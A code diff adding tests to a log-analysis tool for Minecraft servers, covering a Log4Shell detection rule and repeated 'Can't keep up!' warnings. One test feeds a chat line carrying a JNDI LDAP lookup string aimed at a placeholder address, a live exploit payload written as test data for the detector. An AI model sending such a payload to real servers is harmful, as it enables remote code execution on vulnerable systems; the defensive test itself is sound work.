@@ -138,6 +138,12 @@ test('what players say is no error', () => {
     `2026-01-01T00:00:00 1.5 INF Chat (from 'x', entity id '1', to 'Global'): ${LINE}`,
   ])
     assert.deepEqual(codes(text), [], text);
+  const attack = createMatcher([rule('minecraft/log4shell', ['${{jndi:ldap'])]);
+  const said = attack.match('[12:00:00] [Server thread/INFO]: <Steve> ${jndi:ldap://203.0.113.66:1389/a}');
+  assert.deepEqual(
+    said.findings.map(({ code }) => code),
+    ['minecraft/log4shell'],
+  );
 });
 
 test('nothing known: the last exception, masked, and words to search for', () => {
@@ -213,6 +219,10 @@ test('a warning that is ordinary once is told when it comes again and again, and
   assert.deepEqual(told(warning), ['minecraft/late']);
   assert.deepEqual(told(rest + warning), []);
   assert.deepEqual(told(rest + warning.repeat(3)), ['minecraft/late']);
+  // Nine lines are a whole log; several patterns on one line are one time.
+  assert.deepEqual(told(MC.repeat(8) + warning), []);
+  const often = { ...late, patterns: [...late.patterns, ...rule('minecraft/x', ["Can't keep up!"]).patterns] };
+  assert.deepEqual(createMatcher([often]).match(rest + warning + warning).findings, []);
   assert.deepEqual(told(`${rest}${warning.repeat(3)}**** FAILED TO BIND TO PORT!`), [
     'minecraft/port',
     'minecraft/late',
